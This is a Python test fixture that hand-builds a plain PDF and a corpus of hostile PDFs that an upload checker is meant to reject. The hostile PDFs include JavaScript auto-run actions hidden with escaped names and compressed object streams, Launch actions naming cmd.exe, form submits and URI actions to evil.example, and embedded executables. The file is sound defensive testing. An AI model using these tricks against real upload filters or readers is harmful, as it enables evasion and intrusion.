"""Hand-written PDFs for the upload checks: a plain letter and the hostile corpus.

Built byte by byte (no files from the internet), so each trick is visible in the source:
escaped names, JavaScript inside a compressed object stream, launch and submit actions, on-open
and additional actions, embedded files, polyglots and broken files.
"""

import zlib

PAGE_TREE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    b"<< /Length 20 >>\nstream\nBT /F1 12 Tf ET   \nendstream",
]


def build(catalog: bytes = b"", *, extra: list[bytes] = (), version: bytes = b"1.4") -> bytes:
    """A one-page PDF with a classic xref table; `catalog` is added to the catalog dictionary,
    `extra` are objects 5, 6, ... after the page tree."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", *PAGE_TREE, *extra]
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def build_with_object_stream(compressed: list[bytes], catalog: bytes = b"") -> bytes:
    """A PDF 1.5 whose objects 5, 6, ... sit in a Flate-compressed object stream (not visible
    in the file's bytes), indexed by a cross-reference stream."""
    plain = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", *PAGE_TREE]
    first_compressed = len(plain) + 1
    stream_number = first_compressed + len(compressed)
    # The object stream: "number offset" pairs, then the objects themselves.
    header, body = b"", b""
    for index, obj in enumerate(compressed):
        header += b"%d %d " % (first_compressed + index, len(body))
        body += obj + b"\n"
    packed = zlib.compress(header + body)
    objstm = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(compressed), len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in enumerate([*plain], start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n" % stream_number + objstm + b"\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b"\x00" + bytes(4) + b"\xff\xff"
    for number in range(1, xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + bytes(2)
        else:
            index = number - first_compressed
            rows += b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
    xref_start = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_start
    return bytes(out)


LETTER = build()

# Each entry: a PDF the complaint desk must refuse.
HOSTILE = {
    "javascript-open-action": build(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "escaped-javascript": build(b"/Op#65nAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "escaped-javascript-name-tree": build(
        b"/Names << /J#61vaScript 5 0 R >>",
        extra=[b"<< /Names [(a) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >>"],
    ),
    "javascript-name-tree": build(
        b"/Names << /JavaScript 5 0 R >>",
        extra=[b"<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>"],
    ),
    "javascript-in-object-stream": build_with_object_stream(
        [b"<< /S /J#61vaScript /JS (app.alert(1)) >>"], catalog=b"/OpenAction 5 0 R"
    ),
    "additional-action-on-page-in-object-stream": build_with_object_stream(
        [b"<< /O << /S /JavaScript /JS (1) >> >>"], catalog=b"/AA 5 0 R"
    ),
    "launch-in-object-stream": build_with_object_stream(
        [b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>"]
    ),
    "launch": build(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "launch-in-link": build(
        extra=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>"]
    ),
    "submit-form": build(extra=[b"<< /S /SubmitForm /F (http://evil.example/) >>"]),
    "on-open-uri": build(b"/OpenAction << /S /URI /URI (http://evil.example/) >>"),
    "remote-goto": build(extra=[b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"]),
    "additional-actions": build(b"/AA << /WC << /S /URI /URI (http://evil.example/) >> >>"),
    "embedded-file": build(
        b"/Names << /EmbeddedFiles 5 0 R >>",
        extra=[
            b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    ),
    "xfa-form": build(
        b"/AcroForm << /Fields [] /XFA 5 0 R >>",
        extra=[b"<< /Length 8 >>\nstream\n<xdp/>  \nendstream"],
    ),
    "not-parseable": b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n%%EOF\n",
    "header-only": b"%PDF-1.4\n",
    "pdf-zip-polyglot": build() + b"PK\x03\x04" + b"\x00" * 40,
}
